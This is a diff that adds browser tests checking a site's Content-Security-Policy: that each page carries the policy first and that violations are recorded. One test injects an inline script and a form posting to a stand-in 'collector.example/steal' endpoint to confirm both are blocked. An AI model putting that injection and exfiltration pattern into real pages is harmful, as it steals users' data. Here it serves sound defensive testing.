@@ -115,3 +115,69 @@ def test_pages_request_nothing_from_other_hosts(
     print(f"\n{requested} requests from {len(quality_pages)} pages, narrow and light, wide and dark; all checked")
     assert not foreign, "requests to other hosts:\n" + "\n".join(sorted(set(foreign)))
     assert not broken, "requests that failed:\n" + "\n".join(sorted(set(broken)))
+
+
+# Collects what the page's Content-Security-Policy blocked, from before the page's first byte.
+RECORD_VIOLATIONS = """
+window.cspViolations = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.cspViolations.push(`${event.violatedDirective} blocked ${event.blockedURI || "inline"}`);
+});
+"""
+
+
+def note_policy_message(violations: list[str], name: str, text: str) -> None:
+    if "Content Security Policy" in text:
+        violations.append(f"{name}: {text}")
+
+
+@pytest.mark.browser
+def test_pages_run_under_their_content_security_policy(
+    served_site: ServedSite, quality_pages: dict[str, str], site: BuiltSite, browser
+) -> None:
+    violations: list[str] = []
+    assert quality_pages
+    for name, path in quality_pages.items():
+        soup = site.page(path) if name != "404" else site.page("404.html")
+        policy = soup.head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
+        assert policy is not None, f"{name} has no Content-Security-Policy"
+        assert soup.head.find("meta") is soup.head.find("meta", charset=True)
+        assert policy.find_previous_sibling("meta") is soup.head.find("meta", charset=True), "the policy is not first"
+        context = browser.new_context(viewport={"width": 1280, "height": 800})
+        page = context.new_page()
+        page.add_init_script(RECORD_VIOLATIONS)
+        page.on("console", lambda message, name=name: note_policy_message(violations, name, message.text))
+        page.goto(served_site.url(path), wait_until="load")
+        violations.extend(f"{name}: {entry}" for entry in page.evaluate("window.cspViolations"))
+        context.close()
+    assert not violations, "\n".join(violations)
+
+
+@pytest.mark.browser
+def test_the_policy_blocks_script_an_article_could_smuggle_in(
+    served_site: ServedSite, quality_pages: dict[str, str], browser
+) -> None:
+    """The policy is enforced, and a violation would be seen: an inline script and a foreign image are refused."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.add_init_script(RECORD_VIOLATIONS)
+    page.goto(served_site.url(quality_pages["article"]), wait_until="load")
+    page.evaluate(
+        """() => {
+        const script = document.createElement("script");
+        script.textContent = "window.smuggled = true";
+        document.body.append(script);
+        const form = document.createElement("form");
+        form.action = "https://collector.example/steal";
+        form.method = "post";
+        document.body.append(form);
+        form.requestSubmit();
+    }"""
+    )
+    page.wait_for_timeout(300)
+    ran = page.evaluate("window.smuggled === true")
+    blocked = page.evaluate("window.cspViolations")
+    context.close()
+    assert not ran
+    assert any(entry.startswith("script-src") and entry.endswith("inline") for entry in blocked), blocked
+    assert any(entry.startswith("form-action") and "collector.example" in entry for entry in blocked), blocked
